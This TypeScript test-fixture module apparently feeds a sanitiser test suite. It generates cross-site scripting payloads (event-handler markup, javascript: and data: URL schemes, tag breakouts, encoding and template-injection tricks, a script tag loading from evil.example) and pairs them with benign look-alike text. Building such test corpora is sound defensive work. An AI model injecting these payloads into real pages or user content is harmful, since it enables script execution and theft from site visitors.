import { family, type Pair } from "./pair.ts";

/** What a script would do to be noticed: leave a mark on the window. */
const MARK = "window.hostile=1";

const HANDLERS = [
  "onload",
  "onerror",
  "onclick",
  "onfocus",
  "onmouseover",
  "onanimationstart",
  "ontoggle",
  "onpointerenter",
];
const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "iframe src=x",
  "marquee",
  "select autofocus",
  "object data=x",
];
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "vbscript:",
  "blob:",
  "file:///etc/passwd#",
  "view-source:javascript:",
];
const WRAPPERS = [
  (address: string) => `[click](${address}${MARK})`,
  (address: string) => `<a href="${address}${MARK}">click</a>`,
  (address: string) => `${address}${MARK}`,
  (address: string) => `<iframe src="${address}${MARK}"></iframe>`,
  (address: string) => `![x](${address}${MARK})`,
];
const BREAKOUTS = [
  `"><script>${MARK}</script>`,
  `'><script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `</textarea><img src=x onerror=${MARK}>`,
  `--><script>${MARK}</script>`,
  `]]><script>${MARK}</script>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script\u0000>${MARK}</script>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><a xlink:href="javascript:${MARK}"><text>x</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<style>@import 'javascript:${MARK}';</style>`,
  `<link rel=stylesheet href="javascript:${MARK}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${MARK}"><button>x</button></form>`,
  `<template><script>${MARK}</script></template>`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `&#60;script&#62;${MARK}&#60;/script&#62;`,
  `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
  `%3Cscript%3E${MARK}%3C/script%3E`,
  `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`,
  `{{constructor.constructor("${MARK}")()}}`,
  `\${${MARK}}`,
  `<%= ${MARK} %>`,
  `#{${MARK}}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${MARK}//'>`,
];

/** Text that would become a script, a link to one, or an element, wherever it is put into a page as anything but text. */
export const MARKUP: readonly Pair[] = [
  ...family(
    "markup with a handler",
    "I like <3 and a < b > c",
    ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=${MARK}>`)),
  ),
  ...family(
    "a link that runs",
    "[our plans](https://example.com/plans)",
    SCHEMES.flatMap((scheme) => WRAPPERS.map((wrap) => wrap(scheme))),
  ),
  ...family("markup that breaks out", `He said "yes" -- & left </ the rest }}`, BREAKOUTS),
];
